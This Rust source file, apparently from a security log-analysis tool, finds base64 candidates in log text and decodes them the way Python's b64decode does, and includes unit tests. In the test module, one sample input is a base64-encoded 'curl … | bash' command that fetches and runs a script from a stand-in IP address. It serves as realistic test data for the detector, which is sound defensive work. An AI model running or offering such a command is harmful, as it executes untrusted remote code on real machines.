//! Finding base64 candidates in text and decoding them the way MSTICPy
//! (Python's `base64.b64decode`) does.
//!
//! A candidate is a maximal run of at least `min_len` characters from
//! `[A-Za-z0-9+/\n\r]` followed by up to two `=` — the same text MSTICPy's
//! regex `[A-Za-z0-9+/\n\r]{30,}={0,2}` matches, found by a byte scanner
//! (one table look-up a byte) because most log lines hold no candidate and
//! must cost next to nothing.

use base64::Engine;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};

/// `true` for the bytes a candidate run is made of.
const RUN: [bool; 256] = {
    let mut t = [false; 256];
    let mut c = b'A';
    while c <= b'Z' {
        t[c as usize] = true;
        t[(c + 32) as usize] = true; // lower case
        c += 1;
    }
    let mut d = b'0';
    while d <= b'9' {
        t[d as usize] = true;
        d += 1;
    }
    t[b'+' as usize] = true;
    t[b'/' as usize] = true;
    t[b'\n' as usize] = true;
    t[b'\r' as usize] = true;
    t
};

/// Byte ranges `(start, end)` of base64 candidates in `text`, left to right.
pub(crate) struct Candidates<'a> {
    bytes: &'a [u8],
    pos: usize,
    min_len: usize,
}

impl<'a> Candidates<'a> {
    pub(crate) fn new(text: &'a str, min_len: usize) -> Self {
        Self {
            bytes: text.as_bytes(),
            pos: 0,
            min_len: min_len.max(1),
        }
    }
}

impl Iterator for Candidates<'_> {
    type Item = (usize, usize);

    fn next(&mut self) -> Option<(usize, usize)> {
        let b = self.bytes;
        let len = b.len();
        let mut i = self.pos;
        loop {
            // A run shorter than min_len that ends before the text does cannot
            // be a candidate: skip ahead quickly.
            while i < len && !RUN[b[i] as usize] {
                i += 1;
            }
            if i >= len {
                self.pos = len;
                return None;
            }
            let start = i;
            while i < len && RUN[b[i] as usize] {
                i += 1;
            }
            if i - start >= self.min_len {
                let mut end = i;
                while end < len && end - i < 2 && b[end] == b'=' {
                    end += 1;
                }
                self.pos = end;
                // Every byte in start..end is ASCII, so both ends are char
                // boundaries of the UTF-8 text.
                return Some((start, end));
            }
        }
    }
}

/// `true` when `text` holds at least one candidate.
pub(crate) fn has_candidate(text: &str, min_len: usize) -> bool {
    Candidates::new(text, min_len).next().is_some()
}

/// The engine: standard alphabet, no padding expected (padding is checked
/// separately, as Python does), and any trailing bits allowed.
const ENGINE: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_allow_trailing_bits(true)
        .with_decode_padding_mode(DecodePaddingMode::RequireNone),
);

/// Why a candidate did not decode (Python's `binascii.Error` messages).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum DecodeError {
    /// One data character more than a multiple of four.
    OneOverMultipleOfFour,
    /// Two or three data characters left over without enough `=`.
    IncorrectPadding,
}

/// Decodes a candidate like Python's non-strict `base64.b64decode`: line
/// breaks are skipped, `=` padding completes a final group of two or three
/// characters (and is ignored after a complete group), and the unused low
/// bits of the last character are not checked.
pub(crate) fn decode(candidate: &str) -> Result<Vec<u8>, DecodeError> {
    let raw = candidate.as_bytes();
    let data_end = raw.iter().rposition(|&c| c != b'=').map_or(0, |p| p + 1);
    let pads = raw.len() - data_end;
    let body = &raw[..data_end];
    let owned;
    let body: &[u8] = if body.iter().any(|&c| c == b'\n' || c == b'\r') {
        owned = body
            .iter()
            .copied()
            .filter(|&c| c != b'\n' && c != b'\r')
            .collect::<Vec<u8>>();
        &owned
    } else {
        body
    };
    match body.len() % 4 {
        1 => return Err(DecodeError::OneOverMultipleOfFour),
        2 if pads < 2 => return Err(DecodeError::IncorrectPadding),
        3 if pads < 1 => return Err(DecodeError::IncorrectPadding),
        _ => {}
    }
    // Only alphabet characters are left, so this cannot fail; map an error
    // to "not decodable" rather than trusting that.
    ENGINE
        .decode(body)
        .map_err(|_| DecodeError::IncorrectPadding)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<&str> {
        Candidates::new(text, 30)
            .map(|(s, e)| &text[s..e])
            .collect()
    }

    #[test]
    fn finds_runs_of_thirty_with_padding() {
        assert_eq!(
            found("echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA== | x"),
            vec!["Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgYmFzaA=="]
        );
        assert_eq!(found("echo c2hvcnQgb25l | base64 -d"), Vec::<&str>::new());
        assert_eq!(found(""), Vec::<&str>::new());
        // exactly 30, 29
        assert_eq!(found(&"a".repeat(30)), vec!["a".repeat(30).as_str()]);
        assert_eq!(found(&"a".repeat(29)), Vec::<&str>::new());
        // at most two '='
        let s = format!("{}===", "b".repeat(40));
        assert_eq!(found(&s), vec![&s[..42]]);
        // line breaks are part of a run, other whitespace ends it
        assert_eq!(
            found("x AAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAA y"),
            vec!["AAAAAAAAAAAAAAAAAAAA\nAAAAAAAAAAAAAAAAAAAAA"]
        );
        // non-ASCII text around a run keeps char boundaries
        assert_eq!(
            found("é/opt/splunkforwarder/bin/splunkdé"),
            vec!["/opt/splunkforwarder/bin/splunkd"]
        );
    }

    #[test]
    fn decodes_like_python() {
        assert_eq!(decode("QUJD").unwrap(), b"ABC");
        assert_eq!(decode("QUJD==").unwrap(), b"ABC"); // padding after a full group
        assert_eq!(decode("QUI=").unwrap(), b"AB");
        assert_eq!(decode("QUI==").unwrap(), b"AB");
        assert_eq!(decode("QQ==").unwrap(), b"A");
        assert_eq!(decode("QUJ\nD").unwrap(), b"ABC");
        assert_eq!(decode("QR==").unwrap(), b"A"); // trailing bits not checked
        assert_eq!(decode("QUI"), Err(DecodeError::IncorrectPadding));
        assert_eq!(decode("QQ="), Err(DecodeError::IncorrectPadding));
        assert_eq!(decode("QUJDR"), Err(DecodeError::OneOverMultipleOfFour));
        assert_eq!(decode("").unwrap(), b"");
    }
}
